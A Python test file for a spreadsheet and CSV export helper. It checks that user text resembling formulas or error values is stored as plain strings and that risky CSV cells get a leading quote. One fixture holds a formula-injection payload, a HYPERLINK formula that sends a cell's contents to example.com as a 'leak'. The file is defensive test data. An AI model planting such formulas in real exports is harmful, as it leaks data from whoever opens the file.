"""Spreadsheets from people's text: text comes back as text, never as a formula or an error."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from roundtable.common.spreadsheets import append_row, csv_read, csv_row, csv_text

FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "=1+1", "+1", "-1+1", "@SUM(1)"]
ODD_TEXT = [*FORMULAS, "#N/A", "#DIV/0!", "=", "'=1+1", "\t=1", "普通的建议"]


def _reopened(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append_row(sheet, ODD_TEXT)
    append_row(sheet, [7, Decimal("89.50"), 1.5, datetime(2026, 5, 1, 19, 30), date(2026, 5, 1)])
    append_row(sheet, [None, "", "x"])
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).worksheets[0]


@pytest.mark.parametrize("write_only", [True, False], ids=["write_only", "in_memory"])
def test_text_that_looks_like_a_formula_or_an_error_is_written_as_a_string_cell(write_only):
    sheet = _reopened(write_only)
    cells = list(sheet.iter_rows(min_row=1, max_row=1))[0]
    assert [cell.value for cell in cells] == ODD_TEXT
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("write_only", [True, False], ids=["write_only", "in_memory"])
def test_numbers_and_dates_stay_numbers_and_dates(write_only):
    sheet = _reopened(write_only)
    numbers = list(sheet.iter_rows(min_row=2, max_row=2, max_col=5))[0]
    assert [cell.data_type for cell in numbers] == ["n", "n", "n", "d", "d"]
    assert numbers[0].value == 7 and numbers[1].value == 89.5
    assert numbers[3].value == datetime(2026, 5, 1, 19, 30)
    blanks = list(sheet.iter_rows(min_row=3, max_row=3, max_col=3, values_only=True))[0]
    assert blanks == (None, None, "x")


@pytest.mark.parametrize("text", [*FORMULAS, "\t1", "\r1", "'quoted"])
def test_csv_text_starting_like_a_formula_gets_a_quote_in_front(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["普通的建议", "1.5", "-1", "-89.50", "", 7, Decimal("-2"), None])
def test_csv_leaves_plain_text_and_numbers_alone(value):
    assert csv_text(value) == value


def test_a_csv_row_reads_back_as_written():
    values = [*ODD_TEXT, "-1", "1"]
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(values))
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in written)
    assert [csv_read(cell) for cell in written] == values


@given(st.text())
def test_csv_read_undoes_csv_text_for_any_text(text):
    assert csv_read(csv_text(text)) == text


@pytest.mark.parametrize("write_only", [True, False], ids=["write_only", "in_memory"])
def test_control_characters_openpyxl_refuses_are_removed_and_the_export_still_works(write_only):
    """openpyxl raises IllegalCharacterError on \\x00-\\x1f but tab, newline and CR: a text stored
    with one (before forms cleaned text) must not make a whole export fail."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append_row(sheet, ["楼道\x00灯\x0b坏\x1b了", "=1+1\x07", "第一行\n\t第二行", 3])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert [cell.value for cell in row] == ["楼道灯坏了", "=1+1", "第一行\n\t第二行", 3]
    assert row[1].data_type == "s"
